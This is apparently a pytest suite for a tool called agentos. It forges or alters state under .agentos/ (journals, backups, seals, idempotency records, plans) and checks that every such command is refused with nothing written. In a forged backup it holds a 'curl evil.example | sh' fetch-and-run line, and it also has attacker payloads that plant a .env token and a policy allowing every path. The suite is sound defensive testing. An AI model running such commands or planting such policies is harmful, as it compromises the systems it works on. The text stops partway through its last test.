"""Forged or altered state under ``.agentos/`` is refused, and nothing is written.

Whoever can write the workspace can write ``.agentos/`` too. The forger of these cases knows
every formula agentos uses but not the workspace key (it lives outside the workspace, see
``agentos.statekey``), and builds forged files from real ones: a field flipped, a seal
recomputed with a wrong key, dropped, or copied from another file, files swapped, copied or
moved, a backup replaced or deleted, a record written by hand.

One table: each case copies a prepared workspace, tampers with one piece of state, runs the
command that would act on it (apply, recover, rollback, show, check) in-process, and checks the
exit code and error type, that the message names the file, that the workspace tree is
unchanged and no ``.env`` appeared, and that the state it refused (journals, backups,
records) is still there, byte for byte, for a person to look at. Known defects are strict
xfails whose reason says what happens instead (none now: the four this table found — files
swapped, copied or moved between names — are refused since journals, records and execution
records are bound to their names, and archived journals are sealed apart from active ones).
``test_the_same_state_sealed_with_the_key``
is the control: the same files sealed with the workspace's own key are acted on, so the
refusals above come from the seals.

Covered elsewhere, not repeated: a rewritten audit trail and its sealed HEAD
(tests/cli/test_audit_cli.py), stored approvals (tests/governance/).
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from agentos.digest import canonical_json
from agentos.executor.executions import execution_id_for
from agentos.executor.journal import ARCHIVED_PURPOSE, SEAL_PURPOSE, Journal
from agentos.statekey import StateKey, forget_keys, state_key
from helpers import CliResult, copy_tree, read_tree, write_tree

Cli = Callable[..., CliResult]
Doc = dict[str, Any]

# What the attacker wants on disk: a secret file, or a policy that allows everything.
EVIL_ENV = b"TOKEN=attacker\n"
EVIL_POLICY = b"version: 1\nwritegate: {forbidden_paths: []}\nexecutor: {allowed_paths: ['**']}\n"
POLICY = "agent/policies/default.yaml"
TREE = {"src/a.txt": "a\n", "src/b.txt": "b\n", "keep/k.txt": "k\n", "db/migrations/1.sql": "-\n"}
# Manifests by name; each is planned under its own name as plan id unless said otherwise.
PLANS: dict[str, list[dict[str, str]]] = {
    "p0": [{"op": "modify", "path": "keep/k.txt", "content": "K\n"}],
    "p1": [
        {"op": "modify", "path": "src/a.txt", "content": "A\n"},
        {"op": "create", "path": "src/new/c.txt", "content": "c\n"},
    ],
    "p2": [{"op": "modify", "path": "keep/k.txt", "content": "K\n"}],
    "p3": [{"op": "modify", "path": "src/b.txt", "content": "B\n"}],
    "p4": [{"op": "modify", "path": "keep/k.txt", "content": "K4\n"}],
    "p5": [{"op": "modify", "path": "src/b.txt", "content": "B\n"}],  # p3's bytes, another id
    "p6": [{"op": "modify", "path": "db/migrations/1.sql", "content": "drop table t;\n"}],
    "p1-other": [{"op": "modify", "path": "src/b.txt", "content": "other\n"}],
}


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# ---------------------------------------------------------------------------------------------
# Templates: real states made once per module by the real CLI, copied by every case.


def run_main(ws: Path, *args: str | Path) -> tuple[int, Doc]:
    """``agentos ARGS -C ws --json`` in-process (module fixtures have no capsys)."""
    from agentos.cli.entry import main

    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(io.StringIO()):
        code = main([*map(str, args), "-C", str(ws), "--json"])
    return code, json.loads(out.getvalue()) if out.getvalue().strip() else {}


def must(outcome: tuple[int, Doc], code: int = 0) -> Doc:
    assert outcome[0] == code, outcome[1]
    return outcome[1]


def plan(
    ws: Path, plan_id: str, *, changes: str = "", output: Path | None = None, code: int = 0
) -> str:
    """Plan ``PLANS[changes or plan_id]`` as ``plan_id``; return its execution id."""
    manifest = ws.parent / f"manifest-{changes or plan_id}.json"
    manifest.write_text(json.dumps({"changes": PLANS[changes or plan_id]}))
    extra = ("-o", output) if output is not None else ()
    doc = must(run_main(ws, "plan", manifest, "--plan-id", plan_id, *extra), code)
    return execution_id_for(plan_id, doc["result"]["checksum"])


def new_workspace(base: Path) -> Path:
    """``TREE`` under ``agentos init``'s default policy (it forbids ``.env``, asks for
    approval for policy edits, and lets rollbacks through without one)."""
    ws = base / "ws"
    write_tree(ws, TREE)
    must(run_main(ws, "init"))
    return ws


@dataclass(frozen=True)
class Template:
    """A prepared workspace, the execution ids in it, and the folder of files beside it."""

    root: Path
    ids: dict[str, str]
    side: Path


def _hot_template(base: Path) -> Template:
    ws = new_workspace(base)
    ids = {"e0": plan(ws, "p0")}
    must(run_main(ws, "apply", "p0"))
    ids["e4"] = plan(ws, "p4")
    ids["e1"] = plan(ws, "p1")
    proc = subprocess.run(
        [sys.executable, "-m", "agentos", "apply", "p1", "-C", str(ws), "--json"],
        capture_output=True,
        env={**os.environ, "AGENTOS_FAULTS": "commit.before=crash"},
        check=False,
        timeout=120,
    )
    assert proc.returncode == 137, proc.stderr
    assert (ws / ".agentos" / "journal" / f"{ids['e1']}.json").is_file()
    assert (ws / "src" / "a.txt").read_text() == "A\n"
    return Template(ws, ids, base)


def _done_template(base: Path) -> Template:
    ws = new_workspace(base)
    ids = {}
    for plan_id in ("p1", "p2", "p3"):
        ids["e" + plan_id[1:]] = plan(ws, plan_id)
        must(run_main(ws, "apply", plan_id))
    shutil.copy(ws / ".agentos" / "idempotency" / "p3.json", base / "p3-committed.json")
    ids["r3"] = must(run_main(ws, "rollback", ids["e3"]))["result"]["execution_id"]
    ids["e4"] = plan(ws, "p4")
    ids["e5"] = plan(ws, "p5")
    ids["e6"] = plan(ws, "p6", code=4)  # HIGH risk (a migration): needs an approval
    plan(ws, "p1", changes="p1-other", output=base / "p1-other.json")
    assert not list((ws / ".agentos" / "journal").glob("*.json"))
    return Template(ws, ids, base)


@pytest.fixture(scope="module")
def templates(tmp_path_factory: pytest.TempPathFactory, key_dir: Path) -> dict[str, Template]:
    """``hot``: p0 committed (archived), p1 killed just before its commit point (a hot
    journal: src/a.txt and src/new/c.txt written), p4 planned.

    ``done``: p1, p2 committed; p3 committed, then rolled back (record ``reverted``; its
    committed record kept beside as ``p3-committed.json``); p4, p5, p6 (HIGH risk) planned;
    ``p1-other.json`` beside: plan id p1 with other content.
    """
    assert os.environ.get("AGENTOS_KEY_DIR") == str(key_dir)  # never the developer's keys
    with pytest.MonkeyPatch.context() as env:
        env.delenv("AGENTOS_FAULTS", raising=False)
        hot = _hot_template(tmp_path_factory.mktemp("hot"))
        done = _done_template(tmp_path_factory.mktemp("done"))
    return {"hot": hot, "done": done}


@dataclass
class Ctx:
    """One case's copy of a template; ``with_key`` makes the forger hold the real key."""

    ws: Path
    ids: dict[str, str]
    side: Path
    monkeypatch: pytest.MonkeyPatch
    with_key: bool = False
    fill: dict[str, str] = field(default_factory=dict)

    @property
    def state(self) -> Path:
        return self.ws / ".agentos"

    def journal(self, key: str) -> Path:
        return self.state / "journal" / f"{self.ids[key]}.json"

    def archived(self, key: str) -> Path:
        return self.state / "journal" / "committed" / f"{self.ids[key]}.json"

    def backups(self, key: str) -> Path:
        return self.state / "backups" / self.ids[key]

    def record(self, plan_id: str) -> Path:
        return self.state / "idempotency" / f"{plan_id}.json"

    def execution(self, key: str) -> Path:
        return self.state / "executions" / f"{self.ids[key]}.json"

    def workspace_id(self) -> str:
        return (self.state / "workspace.id").read_text().strip()

    def sealing_key(self) -> StateKey:
        """The forger's key: right length and id, wrong bytes (unless ``with_key``)."""
        if self.with_key:
            return state_key(self.state)
        return StateKey(hashlib.sha256(b"a guess").digest(), self.workspace_id())


def load(path: Path) -> Doc:
    return dict(json.loads(path.read_bytes()))


def dump(path: Path, doc: Doc) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(doc, indent=1) + "\n")


def edit(path: Path, change: Callable[[Doc], object]) -> None:
    """Change a JSON state file in place, its seal left as it was."""
    doc = load(path)
    change(doc)
    dump(path, doc)


def sealed_journal(ctx: Ctx, doc: Doc, *, archived: bool = False) -> Doc:
    """``doc`` sealed the way agentos seals journals (active or archived), with the forger's
    key."""
    payload = Journal.model_validate({**doc, "seal": None}).payload()
    purpose = ARCHIVED_PURPOSE if archived else SEAL_PURPOSE
    return {**doc, "seal": ctx.sealing_key().seal(purpose, payload)}


def sealed_record(ctx: Ctx, doc: Doc, purpose: str) -> Doc:
    """An idempotency or execution record sealed the way agentos does, with the forger's key."""
    body = {k: v for k, v in doc.items() if k != "seal"}
    return {**body, "seal": ctx.sealing_key().seal(purpose, canonical_json(body))}


# ---------------------------------------------------------------------------------------------
# Forgeries.

Tamper = Callable[[Ctx], object]


def env_journal(ctx: Ctx, *, seal: bool = True) -> None:
    """Issue case (a): a hot journal nobody ran, whose recorded rules allow ``**`` and whose
    "pre-image" of ``.env`` is the attacker's backup: recovery would restore ``.env``."""
    execution_id = ctx.ids["evil"] = "exec-" + "e" * 20
    doc: Doc = {
        "format": "agentos.journal/1",
        "execution_id": execution_id,
        "plan_id": "p-evil",
        "checksum": "sha256:" + "0" * 64,
        "kind": "apply",
        "parent": None,
        "attempt": 1,
        "state": "prepared",
        "tag": "deadbeef",
        "durable": False,
        "guard": {"allowed": ["**"], "forbidden": []},
        "changes": [{"op": "delete", "path": ".env", "from": None}],
        "entries": [
            {"path": ".env", "before": {"sha256": sha(EVIL_ENV), "mode": 0o644}, "after": None}
        ],
        "created_dirs": [],
        "dir_modes": {},
        "started_at": "2024-01-01T00:00:00+00:00",
        "committed_at": None,
        "phase": "writing",
        "seal": None,
    }
    dump(ctx.journal("evil"), sealed_journal(ctx, doc) if seal else doc)
    write_tree(ctx.backups("evil"), {sha(EVIL_ENV): EVIL_ENV})


def allow_everything(ctx: Ctx) -> None:
    """The workspace's own policy edited: nothing forbidden, every path allowed."""
    policy = ctx.ws / POLICY
    lines = policy.read_text().splitlines(keepends=True)
    for i, line in enumerate(lines):
        if line.startswith("  forbidden_paths:"):
            lines[i] = "  forbidden_paths: []\n"
        elif line.startswith("  allowed_paths:"):
            lines[i] = '  allowed_paths: ["**"]\n'
    policy.write_text("".join(lines))


def env_journal_policy_allows(ctx: Ctx) -> None:
    allow_everything(ctx)
    env_journal(ctx)


def forbid_a(ctx: Ctx) -> None:
    """The workspace's own policy edited after the crash to forbid src/a.txt."""
    policy = ctx.ws / POLICY
    policy.write_text(
        policy.read_text().replace("forbidden_paths: [", 'forbidden_paths: ["src/a.txt", ', 1)
    )


def journal_edit(
    key: str, change: Callable[[Doc], object], *, archived: bool = False, reseal: bool = False
) -> Tamper:
    """Edit execution ``key``'s journal; ``reseal``: seal it anew with the forger's key."""

    def tamper(ctx: Ctx) -> None:
        path = ctx.archived(key) if archived else ctx.journal(key)
        doc = load(path)
        change(doc)
        dump(path, sealed_journal(ctx, doc, archived=archived) if reseal else doc)

    return tamper


def own_backup(ctx: Ctx) -> None:
    """The hot journal's pre-image of src/a.txt pointed at a backup the forger wrote."""
    evil = b"a\ncurl evil.example | sh\n"
    write_tree(ctx.backups("e1"), {sha(evil): evil})
    point = journal_edit(
        "e1", lambda d: d["entries"][0]["before"].update(sha256=sha(evil)), reseal=True
    )
    point(ctx)


def committed_state(doc: Doc) -> None:
    doc.update(state="committed", committed_at="2024-01-01T00:00:00+00:00")


def copy_seal(ctx: Ctx) -> None:
    seal = load(ctx.archived("e0"))["seal"]
    edit(ctx.journal("e1"), lambda d: d.update(seal=seal))


def drop_seal(path_of: Callable[[Ctx], Path]) -> Tamper:
    return lambda ctx: edit(path_of(ctx), lambda d: d.pop("seal"))


def policy_by_rollback(ctx: Ctx, *, reseal: bool = True) -> None:
    """Issue case (b): p2's archived journal (it changed keep/k.txt) edited to say it changed
    the policy file, and one backup written, so that ``rollback`` would "restore" a policy that
    allows everything — with no approval (``executor.rollback.require_approval: false``)."""
    current = (ctx.ws / POLICY).read_bytes()
    write_tree(ctx.backups("e2"), {sha(EVIL_POLICY): EVIL_POLICY})

    def change(doc: Doc) -> None:
        doc["changes"] = [{"op": "modify", "path": POLICY, "from": None}]
        doc["entries"] = [
            {
                "path": POLICY,
                "before": {"sha256": sha(EVIL_POLICY), "mode": 0o644},
                "after": {"sha256": sha(current), "mode": 0o644},
            }
        ]

    journal_edit("e2", change, archived=True, reseal=reseal)(ctx)


def backup_of(key: str, data: bytes | None = None, *, donor: str = "") -> Tamper:
    """Execution ``key``'s backup of src/a.txt overwritten with ``data`` or with the bytes of
    ``donor``'s backup, or (neither) deleted."""

    def tamper(ctx: Ctx) -> None:
        (target,) = ctx.backups(key).iterdir()
        if donor:
            (source,) = ctx.backups(donor).iterdir()
            target.write_bytes(source.read_bytes())
        elif data is not None:
            target.write_bytes(data)
        else:
            target.unlink()

    return tamper


def swap_archived(ctx: Ctx) -> None:
    """p1's and p2's archived journals swapped (each still authentic, under the other name)."""
    one, two = ctx.archived("e1"), ctx.archived("e2")
    first = one.read_bytes()
    one.write_bytes(two.read_bytes())
    two.write_bytes(first)


def moved_back(ctx: Ctx) -> None:
    """p3 (rolled back) had its archived journal put back among the active ones, and its
    record removed: nothing forged, only authentic files moved and deleted."""
    shutil.copy(ctx.archived("e3"), ctx.journal("e3"))
    ctx.record("p3").unlink()


def prune(ctx: Ctx, key: str) -> None:
    """What ``executor.backups.keep`` does to an old execution (its record stays)."""
    ctx.archived(key).unlink()
    shutil.rmtree(ctx.backups(key))


def execution_edited(ctx: Ctx) -> None:
    prune(ctx, "e1")
    edit(ctx.execution("e1"), lambda d: d.update(attempt=7))


def execution_hand_written(ctx: Ctx) -> None:
    ctx.ids["ghost"] = "exec-" + "0" * 20
    doc = {**load(ctx.execution("e1")), "execution_id": ctx.ids["ghost"]}
    dump(ctx.execution("ghost"), sealed_record(ctx, doc, "execution"))


def execution_copied(ctx: Ctx) -> None:
    ctx.ids["ghost"] = "exec-" + "0" * 20
    shutil.copy(ctx.execution("e1"), ctx.execution("ghost"))


def record_edit(plan_id: str, *, reseal: bool = False, **fields: Any) -> Tamper:
    def tamper(ctx: Ctx) -> None:
        doc = {**load(ctx.record(plan_id)), **fields}
        dump(ctx.record(plan_id), sealed_record(ctx, doc, "idempotency") if reseal else doc)

    return tamper


def record_by_hand(ctx: Ctx) -> None:
    """Issue case (c): a record that says p4 was committed."""
    checksum = load(ctx.state / "plans" / "p4.json")["changeset"]["checksum"]
    doc = {
        "plan_id": "p4",
        "checksum": checksum,
        "execution_id": ctx.ids["e4"],
        "status": "committed",
        "attempts": 1,
        "updated_at": "2099-01-01T00:00:00+00:00",
        "committed_at": "2099-01-01T00:00:00+00:00",
    }
    dump(ctx.record("p4"), sealed_record(ctx, doc, "idempotency"))


def record_other_checksum(ctx: Ctx) -> None:
    """p1's record made to vouch for the other content planned under p1."""
    other = load(ctx.side / "p1-other.json")["changeset"]["checksum"]
    record_edit("p1", checksum=other)(ctx)


def copy_to(source: Callable[[Ctx], Path], target: Callable[[Ctx], Path]) -> Tamper:
    return lambda ctx: shutil.copyfile(source(ctx), target(ctx))


def write_text(rel: str, text: str) -> Tamper:
    return lambda ctx: (ctx.ws / rel).write_text(text)


def key_dir_without_key(ctx: Ctx) -> None:
    """The key directory as it is after the workspace's key file was deleted."""
    from agentos.statekey import key_dir

    copy = ctx.ws.parent / "keys-without"
    shutil.copytree(key_dir(), copy)
    (copy / f"{ctx.workspace_id()}.key").unlink()
    ctx.monkeypatch.setenv("AGENTOS_KEY_DIR", str(copy))


def plan_edit(change: Callable[[Doc], object]) -> Tamper:
    """Edit the stored plan p4, its plan_digest left as it was."""
    return lambda ctx: edit(ctx.state / "plans" / "p4.json", change)


def lower_risk(ctx: Ctx) -> None:
    """p6's risk lowered to LOW and its plan_digest recomputed (it is a plain hash)."""
    from agentos.model import plan_digest_of

    path = ctx.state / "plans" / "p6.json"
    doc = {**load(path), "risk": {"level": "LOW", "reasons": []}}
    dump(path, {**doc, "plan_digest": plan_digest_of(doc)})


def other_content(doc: Doc) -> None:
    """Other bytes for the change, with its sha256 and the changes' checksum recomputed (the
    checksum is sealed by plan_digest)."""
    change = doc["changeset"]["changes"][0]
    data = b"evil\n"
    encoding = change["content"]["encoding"]
    text = base64.b64encode(data).decode() if encoding == "base64" else data.decode()
    change.update(content={"encoding": encoding, "data": text}, sha256=sha(data))
    doc["changeset"]["checksum"] = "sha256:" + sha(canonical_json(doc["changeset"]["changes"]))


# ---------------------------------------------------------------------------------------------
# The table.


@dataclass(frozen=True)
class Case:
    """One forgery: the template it starts from, what is done, what is run, what must come out.

    ``command`` and ``names`` may hold ``{e1}`` (an execution id of the template), ``{side}``
    (the folder beside it) or ``{wsid}`` (the workspace id). ``names`` is what the error
    message must name (for exit 0: the one path ``changed_since`` must list).
    """

    name: str
    template: str
    tamper: Tamper
    command: tuple[str, ...]
    names: str
    code: int = 6
    error: str | None = "state_integrity"


def case(name: str, *args: Any, defect: str = "", **kwargs: Any) -> Any:
    """A row of the table; ``defect``: a known defect (strict xfail), what happens instead."""
    marks = [pytest.mark.xfail(strict=True, reason=defect)] if defect else []
    return pytest.param(Case(name, *args, **kwargs), id=name, marks=marks)


HOT = "journal/{e1}.json"
ARCHIVED_1 = "journal/committed/{e1}.json"
ARCHIVED_2 = "journal/committed/{e2}.json"

PLAN_FIELDS: list[tuple[str, Callable[[Doc], object]]] = [
    ("plan_id", lambda d: d.update(plan_id="p9")),
    ("intent", lambda d: d.update(intent="harmless cleanup")),
    ("author", lambda d: d.update(author="dana")),
    ("created_at", lambda d: d.update(created_at="2020-01-01T00:00:00Z")),
    ("base", lambda d: d.update(base={"git_head": "0" * 40})),
    ("risk", lambda d: d["risk"].update(reasons=[{"level": "LOW", "reason": "ok", "paths": []}])),
    ("stats", lambda d: d["stats"].update(files=0)),
    ("sources", lambda d: d["sources"][0].update(name="reviewed.json")),
    ("checksum", other_content),
]

CASES = [
    # Issue case (a): a hand-written hot journal; every apply runs recovery first.
    case("a-journal-by-hand-writes-env", "done", env_journal, ("apply", "p4"), "journal/exec-eee"),
    case(
        "a-journal-by-hand-unsealed",
        "done",
        lambda c: env_journal(c, seal=False),
        ("recover",),
        "journal/exec-eee",
    ),
    case(
        "a-journal-by-hand-policy-allows-env",
        "done",
        env_journal_policy_allows,
        ("apply", "p4"),
        "journal/exec-eee",
    ),
    # A hot journal a crash left (authentic), then edited: resealed with a guessed key, or
    # with its old seal.
    case("hot-entry-before-own-backup", "hot", own_backup, ("recover",), HOT),
    case(
        "hot-entry-before-mode-setuid",
        "hot",
        journal_edit("e1", lambda d: d["entries"][0]["before"].update(mode=0o6755)),
        ("recover",),
        HOT,
    ),
    case(
        "hot-guard-allows-everything",
        "hot",
        journal_edit(
            "e1", lambda d: d.update(guard={"allowed": ["**"], "forbidden": []}), reseal=True
        ),
        ("recover",),
        HOT,
    ),
    case(
        "hot-state-prepared-to-committed",
        "hot",
        journal_edit("e1", committed_state),
        ("apply", "p4"),
        HOT,
    ),
    case(
        "hot-phase-writing-to-checking",
        "hot",
        journal_edit("e1", lambda d: d.update(phase="checking"), reseal=True),
        ("recover",),
        HOT,
    ),
    case(
        "hot-created-dirs-added",
        "hot",
        journal_edit("e1", lambda d: d["created_dirs"].append("keep")),
        ("recover",),
        HOT,
    ),
    case("hot-seal-removed", "hot", drop_seal(lambda c: c.journal("e1")), ("apply", "p4"), HOT),
    case("hot-seal-copied-from-archived", "hot", copy_seal, ("recover",), HOT),
    case("hot-seal-copied-rollback", "hot", copy_seal, ("rollback", "{e0}"), HOT),
    case(
        "hot-journal-not-json",
        "hot",
        lambda c: c.journal("e1").write_text("{"),
        ("recover",),
        HOT,
        error="integrity_violation",
    ),
    case("hot-backup-altered", "hot", backup_of("e1", b"evil\n"), ("recover",), "backups/{e1}/"),
    case("hot-backup-missing", "hot", backup_of("e1"), ("apply", "p4"), "backups/{e1}/"),
    case(
        "hot-backup-of-other-execution",
        "hot",
        backup_of("e1", donor="e0"),
        ("recover",),
        "backups/{e1}/",
    ),
    # Recovery writes only where the current policy allows too (an authentic journal).
    case(
        "hot-current-policy-forbids",
        "hot",
        forbid_a,
        ("recover",),
        "src/a.txt",
        code=3,
        error="denied",
    ),
    # Issue case (b), and archived journals: `agentos rollback` acts on them.
    case(
        "b-archived-rewrites-policy", "done", policy_by_rollback, ("rollback", "{e2}"), ARCHIVED_2
    ),
    case(
        "b-archived-rewrites-policy-old-seal",
        "done",
        lambda c: policy_by_rollback(c, reseal=False),
        ("rollback", "{e2}"),
        ARCHIVED_2,
    ),
    case(
        "archived-committed-at-edited",
        "done",
        journal_edit(
            "e1", lambda d: d.update(committed_at="2030-01-01T00:00:00+00:00"), archived=True
        ),
        ("rollback", "{e1}"),
        ARCHIVED_1,
    ),
    case(
        "archived-seal-removed",
        "done",
        drop_seal(lambda c: c.archived("e1")),
        ("rollback", "{e1}"),
        ARCHIVED_1,
    ),
    case(
        "archived-backup-altered",
        "done",
        backup_of("e1", b"evil\n"),
        ("rollback", "{e1}"),
        "backups/{e1}/",
    ),
    case("archived-backup-missing", "done", backup_of("e1"), ("rollback", "{e1}"), "backups/{e1}/"),
    case(
        "archived-backup-of-other-execution",
        "done",
        backup_of("e1", donor="e2"),
        ("rollback", "{e1}"),
        "backups/{e1}/",
    ),
    case(
        "archived-journals-swapped",
        "done",
        swap_archived,
        ("rollback", "{e1}"),
        ARCHIVED_1,
    ),
    case(
        "archived-moved-back-to-hot",
        "done",
        moved_back,
        ("apply", "p3"),
        "journal/{e3}.json",
    ),
    # Execution records: `rollback` of an id without an archived journal reads them.
    case(
        "execution-edited-pruned-id",
        "done",
        execution_edited,
        ("rollback", "{e1}"),
        "executions/{e1}.json",
    ),
    case(
        "execution-by-hand-unknown-id",
        "done",
        execution_hand_written,
        ("rollback", "{ghost}"),
        "executions/exec-000",
    ),
    case(
        "execution-copied-unknown-id",
        "done",
        execution_copied,
        ("rollback", "{ghost}"),
        "executions/exec-000",
    ),
    # Idempotency records: a forged one is never "already applied".
    case("c-record-by-hand", "done", record_by_hand, ("apply", "p4"), "idempotency/p4.json"),
    case(
        "record-status-reverted-to-committed",
        "done",
        record_edit("p3", status="committed"),
        ("apply", "p3"),
        "idempotency/p3.json",
    ),
    case(
        "record-checksum-edited",
        "done",
        record_other_checksum,
        ("apply", "{side}/p1-other.json"),
        "idempotency/p1.json",
    ),
    case(
        "record-committed-at-edited",
        "done",
        record_edit("p1", reseal=True, committed_at="2099-01-01T00:00:00+00:00"),
        ("apply", "p1"),
        "idempotency/p1.json",
    ),
    case(
        "record-not-an-object",
        "done",
        lambda c: c.record("p1").write_text("[]"),
        ("apply", "p1"),
        "idempotency/p1.json",
    ),
    case(
        "record-copied-from-other-plan-id",
        "done",
        copy_to(lambda c: c.record("p1"), lambda c: c.record("p4")),
        ("apply", "p4"),
        "idempotency/p4.json",
    ),
    case(
        "record-copied-from-other-plan-id-same-bytes",
        "done",
        copy_to(lambda c: c.side / "p3-committed.json", lambda c: c.record("p5")),
        ("apply", "p5"),
        "idempotency/p5.json",
    ),
    # Authentic records replay, and say which files no longer hold what the plan wrote.
    case(
        "authentic-replay-files-changed",
        "done",
        write_text("src/a.txt", "mine\n"),
        ("apply", "p1"),
        "src/a.txt",
        code=0,
        error=None,
    ),
    case(
        "authentic-older-record-put-back",
        "done",
        copy_to(lambda c: c.side / "p3-committed.json", lambda c: c.record("p3")),
        ("apply", "p3"),
        "src/b.txt",
        code=0,
        error=None,
    ),
    # The workspace key.
    case(
        "workspace-id-not-an-id",
        "hot",
        lambda c: (c.state / "workspace.id").write_text("x\n"),
        ("recover",),
        "workspace.id",
    ),
    case(
        "workspace-id-names-no-key",
        "hot",
        lambda c: (c.state / "workspace.id").write_text("f" * 32 + "\n"),
        ("recover",),
        "f" * 32 + ".key",
    ),
    case(
        "workspace-id-removed",
        "hot",
        lambda c: (c.state / "workspace.id").unlink(),
        ("recover",),
        HOT,
    ),
    case("key-file-missing-recover", "hot", key_dir_without_key, ("recover",), "{wsid}.key"),
    case("key-file-missing-apply", "done", key_dir_without_key, ("apply", "p4"), "{wsid}.key"),
    # Plans: plan_digest seals the metadata with the changes' checksum.
    *[
        case(
            f"plan-{name}-{command}",
            "done",
            plan_edit(change),
            (command, "p4"),
            "plans/p4.json",
            error="integrity_violation",
        )
        for name, change in PLAN_FIELDS
        for command in ("apply", "show", "check")
    ],
    # plan_digest is a plain hash: a forger can recompute it, but the gate decides the risk
    # from the changes again, so a plan with its risk lowered still needs its approval.
    case(
        "plan-risk-lowered-digest-recomputed",
        "done",
        lower_risk,
        ("apply", "p6"),
        "approve p6",
        code=4,
        error="needs_approval",
    ),
    case(
        "plan-checksum-only-apply",
        "done",
        plan_edit(lambda d: d["changeset"].update(checksum="sha256:" + "1" * 64)),
        ("apply", "p4"),
        "plans/p4.json",
        error="checksum_mismatch",
    ),
]

RESULTS: dict[str, dict[str, Any]] = {}


def state_files(state: Path) -> dict[str, bytes]:
    """The state a refusal leaves alone: journals, backups, records."""
    found = {}
    for folder in ("journal", "backups", "idempotency", "executions"):
        for path in sorted((state / folder).rglob("*")):
            if path.is_file():
                found[path.relative_to(state).as_posix()] = path.read_bytes()
    return found


@pytest.fixture
def fresh_process(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """No faults armed and no key remembered, as in a new agentos process."""
    from agentos.faults import reset_hits

    monkeypatch.delenv("AGENTOS_FAULTS", raising=False)
    reset_hits()
    forget_keys()
    yield
    forget_keys()


def prepare(
    template: Template, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, *, with_key: bool = False
) -> Ctx:
    ws = tmp_path / "ws"
    copy_tree(template.root, ws)
    return Ctx(ws, dict(template.ids), template.side, monkeypatch, with_key=with_key)


def run(cli: Cli, ctx: Ctx, command: tuple[str, ...]) -> tuple[CliResult, Doc]:
    """Run ``command`` (its placeholders filled) as a new process would."""
    wsid = ctx.workspace_id() if (ctx.state / "workspace.id").is_file() else ""
    ctx.fill = {**ctx.ids, "side": str(ctx.side), "wsid": wsid}
    forget_keys()
    res = cli(*[part.format(**ctx.fill) for part in command], "-C", ctx.ws, "--json")
    assert "Traceback" not in res.err, res.err
    doc = res.json()
    assert doc["exit_code"] == res.code
    return res, doc


@pytest.mark.usefixtures("fresh_process")
@pytest.mark.parametrize("forgery", CASES)
def test_forged_state_is_refused(
    forgery: Case,
    templates: dict[str, Template],
    cli: Cli,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Tamper, run, and check that the command refused and left everything as it was."""
    ctx = prepare(templates[forgery.template], tmp_path, monkeypatch)
    forgery.tamper(ctx)
    tree = read_tree(ctx.ws)
    state = state_files(ctx.state)

    res, doc = run(cli, ctx, forgery.command)
    error = doc.get("error") or {}
    result = doc["result"] if isinstance(doc.get("result"), dict) else {}
    RESULTS[forgery.name] = {
        "exit_code": res.code,
        "error_type": error.get("type"),
        "status": result.get("status"),
    }
    assert (res.code, error.get("type")) == (forgery.code, forgery.error), doc
    assert result.get("status") != "already_applied" or forgery.code == 0
    assert read_tree(ctx.ws) == tree
    assert not (ctx.ws / ".env").exists()
    # Journals (the forged one too), backups and records stay as they were, to be looked at.
    assert state_files(ctx.state) == state
    if forgery.template == "hot":
        assert ctx.journal("e1").is_file()
    names = forgery.names.format(**ctx.fill)
    if forgery.code == 0:
        assert result["status"] == "already_applied"
        assert result["changed_since"] == [names]
        assert any(names in warning for warning in result["warnings"]), result["warnings"]
    else:
        assert names in error["message"], error["message"]


@dataclass(frozen=True)
class Control:
    """A state sealed with the workspace's own key, and what the command then does."""

    template: str
    tamper: Tamper | None
    command: tuple[str, ...]
    code: int
    files: dict[str, bytes | None]  # what the files then hold (None: absent)


CONTROLS = [
    pytest.param(Control("hot", None, ("recover",), 0, {"src/a.txt": b"a\n"}), id="recover"),
    pytest.param(
        Control("done", None, ("rollback", "{e2}"), 0, {"keep/k.txt": b"k\n"}), id="rollback"
    ),
    pytest.param(
        Control("done", env_journal_policy_allows, ("apply", "p4"), 0, {".env": EVIL_ENV}), id="a"
    ),
    # Under the default policy, which forbids .env, the current-policy rule stops it alone.
    pytest.param(
        Control("done", env_journal, ("apply", "p4"), 3, {".env": None}), id="a-env-forbidden"
    ),
    pytest.param(
        Control("done", policy_by_rollback, ("rollback", "{e2}"), 0, {POLICY: EVIL_POLICY}), id="b"
    ),
    # Nothing written: the record answers (and says keep/k.txt does not hold p4's bytes).
    pytest.param(
        Control("done", record_by_hand, ("apply", "p4"), 0, {"keep/k.txt": b"K\n"}), id="c"
    ),
]


@pytest.mark.usefixtures("fresh_process")
@pytest.mark.parametrize("control", CONTROLS)
def test_the_same_state_sealed_with_the_key(
    control: Control,
    templates: dict[str, Template],
    cli: Cli,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The control: the untampered templates recover and roll back, and the forgeries of the
    issue cases (a), (b), (c), sealed with the workspace's own key, are acted on — so each
    refusal above comes from a seal (and the key must stay out of the forger's reach)."""
    ctx = prepare(templates[control.template], tmp_path, monkeypatch, with_key=True)
    if control.tamper is not None:
        control.tamper(ctx)
    res, doc = run(cli, ctx, control.command)
    assert res.code == control.code, doc
    for rel, data in control.files.items():
        path = ctx.ws / rel
        assert (path.read_bytes() if path.exists() else None) == data, rel
    if control.tamper is record_by_hand:
        assert doc["result"]["status"] == "already_applied"
        assert doc["result"]["changed_since"] == ["keep/k.txt"]


def test_the_table_of_forgeries(tmp_path: Path) -> None:
    """The cases and what they gave, as JSON (``pytest -s`` shows it)."""
    rows = []
    for param in CASES:
        (forgery,) = param.values
        rows.append(
            {
                "case": forgery.name,
                "template": forgery.template,
                "command": " ".join(forgery.command),
                "expected": {"exit_code": forgery.code, "error_type": forgery.error},
                "got": RESULTS.get(forgery.name, "not run"),
                "known_defect": next((m.kwargs["reason"] for m in param.marks), None),
            }
        )
    table = tmp_path / "forged-state-table.json"
    table.write_text(json.dumps(rows, indent=1) + "\n")
    print(table.read_text())
    assert len({row["case"] for row in rows}) == len(CASES)
    for row in rows:
        got = row["got"]
